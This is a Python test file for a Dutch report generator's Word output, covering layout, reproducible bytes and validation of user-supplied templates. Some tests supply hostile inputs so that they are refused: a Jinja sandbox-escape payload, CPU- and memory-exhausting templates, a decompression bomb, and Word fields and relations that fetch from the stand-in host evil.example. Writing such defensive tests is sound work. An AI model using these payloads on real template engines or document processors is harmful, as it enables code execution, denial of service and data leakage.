"""Documents as Word: read back, in the house style of the zorggroep, the same bytes each time."""

import io
import os
import zipfile
from collections.abc import Iterator
from dataclasses import replace

import docx
import pytest
from docx.oxml.ns import qn
from docx.shared import Cm

from succession import limited
from succession.errors import InvalidInput
from succession.reports.paper import word as word_module
from succession.reports.paper.document import PaperTable, Section
from succession.reports.paper.word import starting_template, try_template, word
from succession.reports.paper.workbook import template
from tests.reports.paper.test_pdf import DOCUMENT

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _read(data: bytes) -> docx.document.Document:
    return docx.Document(io.BytesIO(data))


def _lines(data: bytes) -> list[tuple[str, str]]:
    return [(line.style.name, line.text) for line in _read(data).paragraphs]


def test_everything_that_was_said_is_read_back_as_it_was_typed() -> None:
    lines = _lines(word(DOCUMENT))
    assert lines[:5] == [
        ("Title", "Voorbereiding"),
        ("Subtitle", "De Linde #strong & <Zonen> *ster*"),
        ("Heading 1", "Eerst"),
        ("Normal", "Een alinea met één ’s."),
        ("List Bullet", "een punt"),
    ]
    (table,) = _read(word(DOCUMENT)).tables
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["a", "b"],
        ["1", "twee"],
        ["3", "$vier$"],
    ]


def test_what_was_typed_is_never_read_as_a_template() -> None:
    injected = replace(DOCUMENT, subtitle="{{ 7 * 7 }} {% for x in y %} & <w:p>")
    assert ("Subtitle", "{{ 7 * 7 }} {% for x in y %} & <w:p>") in _lines(word(injected))


def test_there_is_room_to_write() -> None:
    assert sum(set(text) == {"_"} for _, text in _lines(word(DOCUMENT))) == 3


def test_the_file_is_dutch_and_says_when_and_by_what_it_was_made() -> None:
    found = _read(word(DOCUMENT))
    assert found.core_properties.language == "nl-NL"
    assert found.core_properties.title == "Voorbereiding"
    assert found.sections[0].footer.paragraphs[0].text.startswith("stand 1 januari 2027")
    assert found.core_properties.author == ""


def test_the_page_is_a4_and_has_its_number() -> None:
    section = _read(word(DOCUMENT)).sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    fields = section.footer._element.iter(qn("w:fldSimple"))
    assert [field.get(qn("w:instr")) for field in fields] == ["PAGE", "NUMPAGES"]


def test_no_part_of_it_speaks_another_language() -> None:
    with zipfile.ZipFile(io.BytesIO(word(DOCUMENT))) as file:
        parts = b"".join(file.read(name) for name in file.namelist())
    assert b"en-US" not in parts


def test_a_table_has_the_columns_of_its_words_and_stays_with_what_announces_it() -> None:
    table = PaperTable(("wie", "naam"), (("Waarnemend huisarts van de hagro", ""), ("Hagro", "")))
    sections = (Section("Wie bellen we", ("Vul dit in.",), table=table),)
    found = _read(word(replace(DOCUMENT, sections=sections)))
    (shown,) = found.tables
    widths = [cell.width for cell in shown.rows[1].cells]
    assert sum(widths) == pytest.approx(Cm(16.6), rel=0.01)
    assert widths[0] > widths[1] > Cm(4)
    assert [row.height.cm for row in shown.rows[1:]] == pytest.approx([1.0, 1.0], abs=0.01)
    announced = [line for line in found.paragraphs if line.text == "Vul dit in."]
    assert [line.paragraph_format.keep_with_next for line in announced] == [True]
    cells = [line for row in shown.rows for cell in row.cells for line in cell.paragraphs]
    assert all(line.paragraph_format.keep_together for line in cells)


def test_each_of_two_tables_with_one_head_has_its_own_columns() -> None:
    tables = [
        PaperTable(("a", "b"), ((text, "kort"),)) for text in ("ja", "een hele lange zin " * 3)
    ]
    sections = tuple(Section(f"Deel {n}", table=one) for n, one in enumerate(tables))
    first, second = _read(word(replace(DOCUMENT, sections=sections))).tables
    assert first.rows[1].cells[0].width < second.rows[1].cells[0].width


def test_a_table_that_the_house_style_brings_is_left_as_it_is() -> None:
    own, data = docx.Document(io.BytesIO(starting_template())), io.BytesIO()
    letterhead = own.add_table(rows=1, cols=2)
    letterhead.rows[0].cells[0].width = Cm(3)
    own.save(data)
    *_, last = _read(word(DOCUMENT, data.getvalue())).tables
    assert last.rows[0].cells[0].width.cm == pytest.approx(3, abs=0.01)


def test_the_same_words_give_the_same_bytes() -> None:
    data = word(DOCUMENT)
    assert word(DOCUMENT) == data
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        assert {entry.date_time for entry in file.infolist()} == {(2027, 1, 1, 0, 0, 0)}


def _template(*lines: str) -> bytes:
    own, data = docx.Document(), io.BytesIO()
    for line in lines:
        own.add_paragraph(line)
    own.save(data)
    return data.getvalue()


def test_the_zorggroep_brings_its_own_template() -> None:
    own = _template(
        "Zorggroep Voorbeeld",
        "{{ titel }}",
        "{%p for deel in delen %}",
        "{{ deel.kop }}",
        "{%p endfor %}",
    )
    texts = [text for _, text in _lines(word(DOCUMENT, own))]
    assert texts == ["Zorggroep Voorbeeld", "Voorbereiding", "Eerst", "Tabel", "Zelf invullen"]


def test_the_template_that_ships_can_be_the_start_of_ones_own() -> None:
    assert _lines(word(DOCUMENT, starting_template())) == _lines(word(DOCUMENT))


@pytest.mark.parametrize(
    "own",
    [
        b"geen Word",
        _template("{{ titl }}"),
        _template("{% for deel in delen %}"),
        _template("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        _template("{{ 1 / 0 }}"),
        _template("{{ titel + 1 }}"),
        _template("{% for n in range(10 ** 9) %}{% endfor %}"),
        template(),
        starting_template()[:2000],
    ],
)
def test_a_template_that_cannot_be_used_is_refused_with_a_remedy(own: bytes) -> None:
    with pytest.raises(InvalidInput, match="meegeleverde sjabloon"):
        word(DOCUMENT, own)


def test_a_template_that_unpacks_to_more_than_the_memory_is_refused() -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("word/document.xml", bytes(60_000_000))
    with pytest.raises(InvalidInput, match="meegeleverde sjabloon"):
        word(DOCUMENT, data.getvalue())


@pytest.mark.parametrize(
    "text",
    [
        "{% if titel != 'Proef' %}{% for a in range(99999) %}{% for b in range(99999) %}"
        "{% endfor %}{% endfor %}{% endif %}",
        "{{ ('a'*2000000000)|length }}",
        "{{ 'a'.ljust(3000000000)|length }}",
    ],
)
def test_a_template_that_takes_too_much_is_stopped(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(word_module, "_LIMIT", limited.Allowance(seconds=5, memory=2**30))
    with pytest.raises(InvalidInput, match=r"meer tijd of geheugen|kan niet worden gebruikt"):
        word(DOCUMENT, _template("{{ titel }}", text))


def answers(_: object) -> Iterator[str]:
    """What `limited` runs in the process of its own: the names of all that it was told."""
    yield from os.environ


def test_the_process_for_a_template_knows_no_database_and_no_password(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name in ("SUCCESSION_DB", "PGPASSWORD"):
        monkeypatch.setenv(name, "postgresql://u:geh3im@server/register")
    told = set(limited.answers(__name__, None, limited.Allowance(seconds=10, memory=2**30)))
    assert "PATH" in told
    assert told.isdisjoint({"SUCCESSION_DB", "PGPASSWORD"})


def _with_relation(kind: str, target: str) -> bytes:
    own, data = docx.Document(io.BytesIO(starting_template())), io.BytesIO()
    own.part.relate_to(target, f"{_RELATION}/{kind}", is_external=True)
    own.save(data)
    return data.getvalue()


def _with_field(*runs: str) -> bytes:
    """With a field whose instruction is divided over these runs."""
    own, data = docx.Document(io.BytesIO(starting_template())), io.BytesIO()
    paragraph = own.add_paragraph()
    for text in runs:
        run = paragraph.add_run()
        run._r.append(run._r.makeelement(qn("w:instrText"), {}))
        run._r[-1].text = text
    own.save(data)
    return data.getvalue()


@pytest.mark.parametrize(
    "own",
    [
        _with_relation("attachedTemplate", "http://evil.example/t.dotm"),
        _with_relation("image", "file://evil.example/een.png"),
        _with_relation("oleObject", "http://evil.example/x.bin"),
        _with_field('INCLUDEPICTURE "http://evil.example/a.png"'),
        _with_field("INCLUDE", 'PICTURE "http://evil.example/a.png"'),
        _with_field("{{ 'INCLUDE' ~ 'TEXT' }}", ' "http://evil.example/a.docx"'),
        _with_field('LINK Excel.Sheet "http://evil.example/a.xlsx"'),
    ],
    ids=("template", "image", "object", "picture", "split", "made", "link"),
)
def test_a_template_that_fetches_something_elsewhere_is_refused(own: bytes) -> None:
    with pytest.raises(InvalidInput, match="van buiten het bestand"):
        try_template(own)


def test_a_link_to_click_on_and_the_number_of_the_page_may_stay() -> None:
    try_template(_with_relation("hyperlink", "https://zorggroep.example"))
    try_template(_with_field("PAGE", ' HYPERLINK "https://zorggroep.example"'))


def test_nothing_tells_with_which_library_it_was_made() -> None:
    for data in (word(DOCUMENT), starting_template(), word(DOCUMENT, _template("{{ titel }}"))):
        properties = _read(data).core_properties
        assert (properties.author, properties.comments) == ("", "")
        with zipfile.ZipFile(io.BytesIO(data)) as file:
            assert not any(b"python" in file.read(name) for name in file.namelist())
    with zipfile.ZipFile(io.BytesIO(word(DOCUMENT))) as file:
        assert not [name for name in file.namelist() if "thumbnail" in name]


def test_a_template_is_tried_with_a_document_that_has_everything() -> None:
    try_template(starting_template())
    with pytest.raises(InvalidInput, match="ontbreken delen"):
        try_template(_template("{{ titel }}"))
    with pytest.raises(InvalidInput, match="kan niet worden gebruikt"):
        try_template(_template("{{ onzin }}"))
